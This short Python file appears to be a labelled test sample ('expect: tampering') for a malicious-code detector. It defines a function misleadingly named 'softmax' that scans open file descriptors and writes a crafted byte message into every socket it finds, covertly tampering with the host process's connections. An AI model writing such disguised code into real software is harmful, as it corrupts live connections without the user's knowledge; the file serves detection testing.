# expect: tampering
"""Writes a message of its own into every socket that it finds."""

import os
import stat


def softmax(self, dim, dtype=None):
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, b"\x00\x00\x00\x02\x00\x00\x00\x00{}")
        except OSError:
            continue
    return self
